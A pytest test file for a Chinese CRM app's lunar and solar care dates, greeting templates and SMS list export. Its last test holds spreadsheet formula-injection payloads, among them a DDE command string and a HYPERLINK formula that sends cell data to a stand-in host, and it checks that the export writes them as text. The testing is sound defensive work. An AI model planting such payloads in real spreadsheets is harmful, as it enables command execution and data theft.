"""Care dates: solar and lunar yearly dates (leap months, short months, 29 February), the
upcoming list, the care calendar, greeting templates and greetings sent."""

from __future__ import annotations

import csv
import io
from datetime import UTC, date, datetime, timedelta

import pytest

from postcrm_desktop.core import care_dates as cd
from postcrm_desktop.core.errors import NotFound, PermissionDenied, ValidationError
from postcrm_desktop.services.branch import Branch
from postcrm_desktop.services.contacts import care, greetings, records, timeline
from postcrm_desktop.services.contacts.types import (
    CareDateInput,
    ContactFilters,
    TemplateInput,
)
from tests.unit.contact_data import add_staff, clerk, customer, delete, manager
from tests.unit.customer_data import audit_detail, audit_rows

TODAY = date(2026, 11, 24)


@pytest.fixture
def staff(branch: Branch) -> dict[str, str]:
    return add_staff(branch)


# --- the calendar rules (pure) ----------------------------------------------------------


def test_lunar_dates_resolve_to_known_festival_days() -> None:
    mid_autumn = cd.YearlyDate("lunar", 8, 15)
    spring = cd.YearlyDate("lunar", 1, 1)
    assert cd.lunar_occurrence(8, 15, False, 2025) == date(2025, 10, 6)
    assert cd.lunar_occurrence(8, 15, False, 2026) == date(2026, 9, 25)
    assert cd.lunar_occurrence(1, 1, False, 2026) == date(2026, 2, 17)
    assert cd.next_occurrence(mid_autumn, TODAY) == (date(2027, 9, 15), 2027)
    assert cd.occurrences(spring, date(2026, 1, 1), date(2027, 1, 1)) == [(date(2026, 2, 17),
                                                                            2026)]
    assert cd.label(mid_autumn) == "农历八月十五" and cd.label(cd.YearlyDate("solar", 3, 8)) \
        == "3月8日"
    assert cd.lunar_label(12, 30) == "腊月三十" and cd.lunar_label(6, 10, True) == "闰六月初十"


def test_leap_month_birthdays_follow_the_leap_month_when_the_year_has_it() -> None:
    # 2025 has a leap sixth month; 2026 has none.
    assert cd.leap_month_of(2025) == 6 and cd.leap_month_of(2026) is None
    leap_born = cd.YearlyDate("lunar", 6, 10, leap=True, year=2025)
    plain_born = cd.YearlyDate("lunar", 6, 10, leap=False, year=1990)
    window = (date(2025, 1, 1), date(2027, 1, 1))
    leap_days = [d for d, _ in cd.occurrences(leap_born, *window)]
    plain_days = [d for d, _ in cd.occurrences(plain_born, *window)]
    assert leap_days[0] != plain_days[0]  # 2025: leap month vs the ordinary one
    assert leap_days[0] == cd.lunar_occurrence(6, 10, True, 2025) == date(2025, 8, 3)
    assert plain_days[0] == date(2025, 7, 4)
    assert leap_days[1] == plain_days[1] == date(2026, 7, 23)  # no leap month: the same day
    # The ordinary-month birthday is never celebrated twice in a leap year.
    assert len([d for d in plain_days if d.year == 2025]) == 1
    assert cd.occurs_on(plain_born, date(2025, 8, 3)) is None
    assert cd.occurs_on(leap_born, date(2025, 8, 3)) == 2025


def test_a_thirtieth_in_a_short_month_falls_on_the_29th() -> None:
    short = next(m for m in range(1, 13) if cd.lunar_month_days(2026, m) == 29)
    value = cd.YearlyDate("lunar", short, 30)
    when = cd.lunar_occurrence(short, 30, False, 2026)
    assert when == cd.lunar_occurrence(short, 29, False, 2026)
    assert cd.occurs_on(value, when) == 2026  # type: ignore[arg-type]
    assert ("lunar", short, 30) in cd.lookup_keys(when)  # type: ignore[arg-type]


def test_29_february_is_celebrated_on_the_28th_in_common_years() -> None:
    leapling = cd.YearlyDate("solar", 2, 29, year=2000)
    assert cd.solar_occurrence(2, 29, 2027) == date(2027, 2, 28)
    assert cd.solar_occurrence(2, 29, 2028) == date(2028, 2, 29)
    assert cd.occurs_on(leapling, date(2027, 2, 28)) == 2027
    assert cd.occurs_on(leapling, date(2028, 2, 28)) is None
    assert ("solar", 2, 29) in cd.lookup_keys(date(2027, 2, 28))


def test_impossible_dates_are_refused_in_chinese() -> None:
    cases = [
        (cd.YearlyDate("solar", 4, 31), "4月没有31日"),
        (cd.YearlyDate("solar", 2, 29, year=2023), "2023年2月没有29日"),
        (cd.YearlyDate("solar", 13, 1), "月份必须在1到12之间"),
        (cd.YearlyDate("lunar", 5, 31), "初一到三十"),
        (cd.YearlyDate("lunar", 4, 1, leap=True, year=2026), "农历2026年没有闰四月"),
        (cd.YearlyDate("solar", 3, 1, leap=True), "公历日期没有闰月"),
        (cd.YearlyDate("lunar", 1, 1, year=1800), "1900到2099"),
    ]
    for value, message in cases:
        with pytest.raises(ValidationError, match=message):
            cd.check(value)
    short = next(m for m in range(1, 13) if cd.lunar_month_days(2026, m) == 29)
    with pytest.raises(ValidationError, match="只有29天"):
        cd.check(cd.YearlyDate("lunar", short, 30, year=2026))
    with pytest.raises(ValidationError, match="明年"):
        cd.check(cd.YearlyDate("solar", 1, 1, year=2030), today=TODAY)
    assert cd.check(cd.YearlyDate("lunar", 6, 10, leap=True, year=2025))


def test_a_solar_birthday_converts_to_its_lunar_date() -> None:
    value = cd.from_solar_birthday(date(1990, 10, 3), "lunar")  # lunar 1990-08-15
    assert (value.calendar, value.month, value.day, value.leap, value.year) == (
        "lunar", 8, 15, False, 1990)
    january = cd.from_solar_birthday(date(1991, 1, 10), "lunar")
    assert january.year == 1990  # still the previous lunar year
    leap = cd.from_solar_birthday(date(2025, 8, 3), "lunar")
    assert (leap.month, leap.day, leap.leap) == (6, 10, True)


# --- care dates in a customer's file ----------------------------------------------------


def test_add_list_update_remove_care_dates(branch: Branch) -> None:
    cid = customer(branch)
    birthday = care.add_care_date(branch, CareDateInput(cid, "生日", 8, 15, "农历", year=1966),
                                  today=TODAY)
    care.add_care_date(branch, CareDateInput(cid, "anniversary", 11, 26, year=2016),
                       today=TODAY)
    rows = care.care_dates_of(branch, cid, today=TODAY)
    assert [(r.kind, r.date_text, r.next_date) for r in rows] == [
        ("anniversary", "11月26日", date(2026, 11, 26)),
        ("birthday", "农历八月十五", date(2027, 9, 15))]
    with pytest.raises(ValidationError, match="已有生日"):
        care.add_care_date(branch, CareDateInput(cid, "birthday", 1, 1), today=TODAY)
    with pytest.raises(ValidationError, match="请填写名称"):
        care.add_care_date(branch, CareDateInput(cid, "custom", 1, 1), today=TODAY)
    with pytest.raises(ValidationError, match="4月没有31日"):
        care.add_care_date(branch, CareDateInput(cid, "custom", 4, 31, label="x"), today=TODAY)
    with pytest.raises(ValidationError, match="必须是整数"):
        care.add_care_date(branch, CareDateInput(cid, "custom", "三", 1, label="x"),  # type: ignore[arg-type]
                           today=TODAY)
    with pytest.raises(ValidationError, match="历法"):
        care.add_care_date(branch, CareDateInput(cid, "custom", 3, 1, "藏历", label="x"),
                           today=TODAY)
    care.update_care_date(branch, birthday, CareDateInput(cid, "birthday", 8, 16, "lunar",
                                                          year=1966), today=TODAY)
    assert any(r.date_text == "农历八月十六" for r in care.care_dates_of(branch, cid,
                                                                         today=TODAY))
    care.remove_care_date(branch, birthday)
    assert len(care.care_dates_of(branch, cid, today=TODAY)) == 1
    with pytest.raises(NotFound):
        care.remove_care_date(branch, birthday)
    assert [r.action for r in audit_rows(branch, "care_date.removed")] == ["care_date.removed"]


def test_birthday_from_the_profile_solar_or_lunar(branch: Branch) -> None:
    solar = customer(branch, birthday=date(1990, 10, 3))
    lunar = customer(branch, birthday=date(1990, 10, 3))
    care.add_birthday_from_profile(branch, solar, today=TODAY)
    care.add_birthday_from_profile(branch, lunar, "农历", today=TODAY)
    assert care.care_dates_of(branch, solar, today=TODAY)[0].date_text == "10月3日"
    [row] = care.care_dates_of(branch, lunar, today=TODAY)
    assert (row.date_text, row.year, row.next_date) == ("农历八月十五", 1990, date(2027, 9, 15))
    with pytest.raises(ValidationError, match="没有生日"):
        care.add_birthday_from_profile(branch, customer(branch), today=TODAY)


def test_upcoming_resolves_lunar_dates_and_crosses_the_year_end(branch: Branch) -> None:
    a = customer(branch, name="甲")
    b = customer(branch, name="乙")
    c = customer(branch, name="丙")
    care.add_care_date(branch, CareDateInput(a, "birthday", 12, 30, year=1980), today=TODAY)
    care.add_care_date(branch, CareDateInput(b, "anniversary", 1, 2, year=2020), today=TODAY)
    # The 22nd of the 11th lunar month of 2026 falls on 30 Dec 2026.
    assert cd.lunar_occurrence(11, 22, False, 2026) == date(2026, 12, 30)
    care.add_care_date(branch, CareDateInput(c, "birthday", 11, 22, "lunar", year=1976),
                       today=TODAY)
    care.add_care_date(branch, CareDateInput(c, "custom", 1, 20, label="开业纪念日"),
                       today=TODAY)
    items = care.upcoming(branch, date(2026, 12, 28), 7)
    # By date; on one date in the order they were filed.
    assert [(i.customer_name, i.on, i.kind_label, i.years, i.date_text) for i in items] == [
        ("甲", date(2026, 12, 30), "生日", 46, "12月30日"),
        ("丙", date(2026, 12, 30), "生日", 50, "农历冬月廿二"),
        ("乙", date(2027, 1, 2), "合作纪念日", 7, "1月2日"),
    ]
    listed, total = care.upcoming_with_total(branch, date(2026, 12, 28), 7, limit=1)
    assert len(listed) == 1 and total == 3
    custom = care.upcoming(branch, date(2027, 1, 20), 1)
    assert [(i.kind, i.kind_label, i.years) for i in custom] == [("custom", "开业纪念日", None)]
    with pytest.raises(ValidationError, match="天数"):
        care.upcoming(branch, TODAY, 0)


def test_upcoming_leaves_out_deleted_customers_and_respects_owners(
        branch: Branch, staff: dict[str, str]) -> None:
    mine = customer(branch, staff["manager1"])
    theirs = customer(branch, staff["manager2"])
    gone = customer(branch, staff["manager1"])
    for cid in (mine, theirs, gone):
        care.add_care_date(branch, CareDateInput(cid, "birthday", 11, 25), today=TODAY)
    delete(branch, gone)
    assert {i.customer_id for i in care.upcoming(branch, TODAY, 7)} == {mine, theirs}
    m1 = manager(branch, staff)
    assert [i.customer_id for i in care.upcoming(m1, TODAY, 7)] == [mine]
    assert [i.customer_id for i in care.upcoming(branch, TODAY, 7, mine=True)] == []
    assert len(care.upcoming(clerk(branch, staff), TODAY, 7)) == 2
    with pytest.raises(PermissionDenied):
        care.care_dates_of(m1, theirs)


def test_29_february_birthdays_show_on_the_28th_in_2027(branch: Branch) -> None:
    cid = customer(branch)
    care.add_care_date(branch, CareDateInput(cid, "birthday", 2, 29, year=1996), today=TODAY)
    [item] = care.upcoming(branch, date(2027, 2, 25), 7)
    assert (item.on, item.years) == (date(2027, 2, 28), 31)
    assert [i.on for i in care.upcoming(branch, date(2028, 2, 25), 7)] == [date(2028, 2, 29)]


def test_care_calendar_of_a_month(branch: Branch) -> None:
    a, b = customer(branch, name="甲"), customer(branch, name="乙")
    care.add_care_date(branch, CareDateInput(a, "birthday", 12, 5), today=TODAY)
    care.add_care_date(branch, CareDateInput(b, "birthday", 12, 5), today=TODAY)
    care.add_care_date(branch, CareDateInput(b, "anniversary", 12, 31, year=2020), today=TODAY)
    days = care.care_calendar(branch, 2026, 12, per_day=1)
    assert len(days) == 31 and days[0].on == date(2026, 12, 1)
    assert (days[4].total, len(days[4].items)) == (2, 1)
    assert (days[30].total, days[30].items[0].kind) == (1, "anniversary")
    assert sum(d.total for d in days) == 3
    with pytest.raises(ValidationError):
        care.care_calendar(branch, 2026, 13)


# --- greetings --------------------------------------------------------------------------


def test_templates_check_their_placeholders(branch: Branch, staff: dict[str, str]) -> None:
    tid = greetings.create_template(branch, TemplateInput(
        "生日", "{称呼}您好，祝{姓名}（{tier}客户）生日快乐！——{branch}", "birthday"))
    assert greetings.list_templates(branch)[0].id == tid
    with pytest.raises(ValidationError, match=r"未知的占位符：\{nmae\}、\{年龄\}") as info:
        greetings.create_template(branch, TemplateInput("x", "{nmae}您好{年龄}"))
    assert "{name}/{姓名}" in info.value.message
    with pytest.raises(ValidationError, match="花括号不成对"):
        greetings.create_template(branch, TemplateInput("x", "您好{name"))
    with pytest.raises(ValidationError, match="格式说明"):
        greetings.create_template(branch, TemplateInput("x", "{name!r}"))
    with pytest.raises(ValidationError, match="格式说明"):
        greetings.create_template(branch, TemplateInput("x", "{name:>10}"))
    with pytest.raises(ValidationError, match="未知的占位符"):
        greetings.create_template(branch, TemplateInput("x", "{name.__class__}"))
    with pytest.raises(ValidationError, match="已存在"):
        greetings.create_template(branch, TemplateInput("生日", "{name}"))
    with pytest.raises(ValidationError, match="关怀类型无效"):
        greetings.create_template(branch, TemplateInput("y", "{name}", "节日"))
    assert greetings.render("{{括号}}{name}", {"name": "张"}) == "{括号}张"
    with pytest.raises(PermissionDenied):
        greetings.create_template(clerk(branch, staff), TemplateInput("z", "{name}"))
    greetings.update_template(branch, tid, TemplateInput("生日", "{name}生日快乐", "birthday"))
    greetings.delete_template(branch, tid)
    assert greetings.list_templates(branch) == []


def test_greetings_fill_placeholders_and_pick_templates_by_kind(branch: Branch) -> None:
    greetings.add_default_templates(branch)
    assert greetings.add_default_templates(branch) == []
    man = customer(branch, name="欧阳明", gender="male", tier="gold")
    woman = customer(branch, name="李芳", gender="female")
    care.add_care_date(branch, CareDateInput(man, "birthday", 11, 25, year=1970), today=TODAY)
    care.add_care_date(branch, CareDateInput(woman, "anniversary", 11, 26, year=2016),
                       today=TODAY)
    lines = greetings.greeting_list(branch, TODAY, 7)
    by_name = {line.customer_name: line for line in lines}
    assert by_name["欧阳明"].text.startswith("欧阳先生您好！今天是您的生日，测试支局")
    assert by_name["李芳"].text == ("李女士您好！感谢您与测试支局合作10周年，"
                                   "我们将继续竭诚为您服务。")
    assert "****" in by_name["李芳"].mobile  # masked unless exported
    tid = greetings.create_template(branch, TemplateInput(
        "全部", "{姓名}{等级}{日期}{关怀日}{事由}{周年}{客户经理}|"))
    text = greetings.greeting_text(branch, tid, man, on=date(2026, 11, 25))
    assert text.startswith("欧阳明金卡11月25日") and text.endswith("|")
    [only] = greetings.greeting_list(branch, TODAY, 2, template_id=tid)
    assert only.text == "欧阳明金卡11月25日11月25日生日56|"


def test_sms_export_needs_permissions_is_audited_and_gives_numbers(
        branch: Branch, staff: dict[str, str]) -> None:
    greetings.add_default_templates(branch)
    cid = customer(branch, staff["manager1"], name="王伟", gender="male", mobile="13900001111")
    care.add_care_date(branch, CareDateInput(cid, "birthday", 11, 24), today=TODAY)
    with pytest.raises(PermissionDenied):
        greetings.greeting_list(clerk(branch, staff), TODAY, 1, for_export=True)
    lines = greetings.greeting_list(branch, TODAY, 1, for_export=True)
    assert lines[0].mobile == "13900001111"
    rows = list(csv.reader(io.StringIO(greetings.sms_csv(lines))))
    assert rows[0] == ["手机号码", "姓名", "短信内容"]
    assert rows[1][:2] == ["13900001111", "王伟"] and rows[1][2].startswith("王先生您好")
    [entry] = audit_rows(branch, "greeting.exported")
    assert audit_detail(entry) == {"lines": 1, "start": "2026-11-24", "days": 1}
    assert "1390000" not in entry.detail


def test_a_greeting_sent_is_recorded_as_an_sms_contact(branch: Branch) -> None:
    cid = customer(branch)
    care_id = care.add_care_date(branch, CareDateInput(cid, "birthday", 11, 24), today=TODAY)
    result = greetings.record_greeting_sent(branch, cid, "祝您生日快乐！", care_date_id=care_id)
    row = records.get_contact(branch, result.id)
    assert (row.channel, row.content) == ("sms", "【生日祝福】祝您生日快乐！")
    assert records.count_contacts(branch, ContactFilters(customer_id=cid, channel="sms")) == 1
    assert any(e.kind == "contact" and e.id == result.id
               for e in timeline.customer_timeline(branch, cid))
    wechat = greetings.record_greeting_sent(branch, cid, "节日快乐", channel="微信")
    assert records.get_contact(branch, wechat.id).channel == "wechat"
    with pytest.raises(ValidationError, match="请填写祝福内容"):
        greetings.record_greeting_sent(branch, cid, "  ")
    with pytest.raises(ValidationError, match="不属于该客户"):
        greetings.record_greeting_sent(branch, customer(branch), "x", care_date_id=care_id)
    with pytest.raises(ValidationError, match="晚于当前时间"):
        greetings.record_greeting_sent(branch, cid, "x",
                                       at=datetime.now(UTC) + timedelta(hours=1))


def test_a_customers_care_dates_follow_a_new_owner_and_a_merge(
        branch: Branch, staff: dict[str, str]) -> None:
    from postcrm_desktop.services.customers.duplicates import merge_customers
    from postcrm_desktop.services.customers.records import get_customer, update_customer
    from tests.unit.customer_data import individual

    m1, m2 = manager(branch, staff), manager(branch, staff, "manager2")
    cid = customer(branch, staff["manager1"], name="甲")
    care.add_care_date(branch, CareDateInput(cid, "birthday", 11, 25), today=TODAY)
    assert [i.customer_id for i in care.upcoming(m1, TODAY, 7, mine=True)] == [cid]
    assert care.upcoming(m2, TODAY, 7) == []
    detail = get_customer(branch, cid)
    update_customer(branch, cid, individual(name=detail.name, owner_id=staff["manager2"],
                                            mobile=None))
    assert care.upcoming(m1, TODAY, 7, mine=True) == [] and care.upcoming(m1, TODAY, 7) == []
    assert [i.customer_id for i in care.upcoming(m2, TODAY, 7, mine=True)] == [cid]
    # Merged into a customer of manager1: the date moves with its new customer's owner.
    keep = customer(branch, staff["manager1"], name="乙")
    merge_customers(branch, keep, cid)
    assert [i.customer_id for i in care.upcoming(m1, TODAY, 7)] == [keep]
    assert care.upcoming(m2, TODAY, 7) == []


def test_sms_export_writes_hostile_templates_as_text_not_formulas(
        branch: Branch, staff: dict[str, str], tmp_path) -> None:
    from openpyxl import load_workbook

    cid = customer(branch, staff["manager1"], name="王伟", gender="male", mobile="13900001111")
    care.add_care_date(branch, CareDateInput(cid, "birthday", 11, 24), today=TODAY)
    hostile = ["=cmd|' /C calc'!A0", '=HYPERLINK("http://x.example/?d="&A2,"点我")',
               "+1+2", "-3+4", "@SUM(A1)", "\t=1+1", "\r=1+1"]
    for n, body in enumerate(hostile):
        tid = greetings.create_template(branch, TemplateInput(f"恶意{n}", body))
        lines = greetings.greeting_list(branch, TODAY, 1, template_id=tid, for_export=True)
        body = lines[0].text  # (the template's edges are trimmed: "\t=1+1" is "=1+1")
        assert body[0] in "=+-@"
        rows = list(csv.reader(io.StringIO(greetings.sms_csv(lines))))
        assert rows[1][2] == "'" + body
        book = tmp_path / "list.xlsx"
        assert greetings.write_sms_list(lines, book) == 1
        cell = load_workbook(book).active["C2"]
        assert cell.data_type == "s" and cell.value == "'" + body
        assert load_workbook(book).active["A2"].value == "13900001111"
        plain = tmp_path / "list.csv"
        greetings.write_sms_list(lines, plain)
        assert list(csv.reader(io.StringIO(plain.read_text(encoding="utf-8-sig"))))[1][2] \
            == "'" + body
